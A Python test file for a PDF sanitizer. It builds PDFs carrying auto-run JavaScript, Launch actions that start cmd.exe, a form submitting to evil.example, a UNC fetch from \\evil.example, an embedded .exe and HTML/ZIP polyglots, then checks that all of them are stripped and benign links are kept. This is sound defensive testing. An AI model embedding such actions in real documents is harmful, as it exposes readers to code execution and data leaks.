"""What acts by itself is taken out of a PDF; what is for reading stays, and a clean PDF stays as it was."""

import io
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from django.core.files.base import ContentFile
from pikepdf import Array, Dictionary, Name, Pdf, String

from dossiers import pdf
from tests import pdfs
from tests.dossiers import papers

WORDS = (b"JavaScript", b"app.alert", b"cmd.exe", b"evil", b"/XFA", b"MZ-program", b"/AA", b"EmbeddedFile", b"Launch")


def js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def made(change: Callable[[Pdf], None]) -> bytes:
    """A paper with something in it."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(papers.paper(2))) as document:
        change(document)
        document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return target.getvalue()


def link(document: Pdf, action: Dictionary, subtype: Name = Name.Link) -> Dictionary:
    note = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([0, 0, 9, 9]), A=action)
    document.pages[0].obj.Annots = Array([document.make_indirect(note)])
    return note


def attached(document: Pdf) -> None:
    document.attachments["x.exe"] = b"MZ-program"


def form(document: Pdf) -> None:
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example")))
    field = Dictionary(FT=Name.Btn, T=String("zend"), Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9], A=submit)
    document.pages[0].obj.Annots = Array([document.make_indirect(field)])
    document.Root.AcroForm = Dictionary(
        Fields=Array([document.pages[0].obj.Annots[0]]), XFA=document.make_stream(b"<xdp/>")
    )


ACTING: dict[str, Callable[[Pdf], None]] = {
    "script on opening": lambda d: setattr(d.Root, "OpenAction", js()),
    "website on opening": lambda d: setattr(
        d.Root, "OpenAction", Dictionary(S=Name.URI, URI=String("https://evil.example"))
    ),
    "script on an event": lambda d: setattr(d.pages[0].obj, "AA", Dictionary(O=d.make_indirect(js()))),
    "script by name": lambda d: setattr(
        d.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), d.make_indirect(js())])))
    ),
    "script after a link": lambda d: link(d, Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([js()]))),
    "kind of action elsewhere": lambda d: link(d, Dictionary(S=d.make_indirect(Name.Launch), F=String("cmd.exe"))),
    "program": lambda d: link(d, Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe")))),
    "file on a server": lambda d: link(d, Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\x.pdf"), D=Array([0]))),
    "odd link": lambda d: link(d, Dictionary(S=Name.URI, URI=String("file:///evil"))),
    "form": form,
    "attached": attached,
    "attached to a page": lambda d: link(d, js(), Name.FileAttachment),
    "film": lambda d: link(d, Dictionary(S=Name.Rendition, JS=String("evil")), Name.Screen),
}


@pytest.mark.parametrize("what", ACTING)
def test_what_acts_is_taken_out_and_the_pages_stay(what):
    data = made(ACTING[what])
    checked = pdf.check(ContentFile(data, name="x.pdf"))
    kept = checked.file.read()
    assert checked.received.read() == data
    assert [word for word in WORDS if word in uncompressed(kept)] == []
    assert (checked.page_count, pdfs.text(kept)) == (2, pdfs.text(papers.paper(2)))
    assert checked.size == len(kept)
    again = pdf.check(ContentFile(kept, name="x.pdf"))
    assert (again.received, again.sha256) == (None, checked.sha256)
    assert pdf.check(ContentFile(data, name="y.pdf")).sha256 == checked.sha256


def uncompressed(data: bytes) -> bytes:
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as document:
        document.save(
            target,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        )
    return target.getvalue()


@pytest.mark.parametrize(
    "change",
    [
        lambda d: None,
        lambda d: link(d, Dictionary(S=Name.URI, URI=String("https://example.org/stuk"))),
        lambda d: link(d, Dictionary(S=Name.URI, URI=String("mailto:griffie@example.org"))),
        lambda d: setattr(d.Root, "OpenAction", Array([d.pages[1].obj, Name.Fit])),
        lambda d: d.pages[0].obj.Resources.Font.__setitem__("/AA", Dictionary(Type=Name.Font, Subtype=Name.Type1)),
    ],
    ids=["paper", "website", "mail", "opens at a page", "font called AA"],
)
def test_what_is_for_reading_stays_byte_for_byte(change):
    data = made(change)
    checked = pdf.check(ContentFile(data, name="x.pdf"))
    assert (checked.file.read(), checked.received) == (data, None)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (b"<!doctype html><script>alert(1)</script><!--\n", b""),
        (b"var a=1/*\n", b"*/;alert(1)"),
        (b"", b"PK\x05\x06" + b"\0" * 18),
    ],
)
def test_a_file_that_is_also_something_else_is_written_anew(before, after):
    checked = pdf.check(ContentFile(before + papers.many_pages(2) + after, name="x.pdf"))
    kept = checked.file.read()
    assert (kept[:5], kept.rstrip()[-5:], checked.page_count) == (b"%PDF-", b"%%EOF", 2)
    assert not (after and after in kept)


def test_a_pdf_that_only_its_owner_may_change_is_opened_like_any_other():
    checked = pdf.check(ContentFile(papers.locked(user=""), name="x.pdf"))
    with pikepdf.open(checked.file) as document:
        assert (document.is_encrypted, len(document.pages)) == (False, 1)


def test_the_program_stands_alone():
    """It is run without the portal, so it must not lean on it."""
    lines = Path(pdf.CLEANING).read_text().splitlines()
    assert [line for line in lines if line.startswith(("import", "from"))] == [
        "import json",
        "import re",
        "import sys",
        "from pathlib import Path",
        "import pikepdf",
        "from pikepdf import Array, Dictionary, Name, Object, Stream, String",
    ]
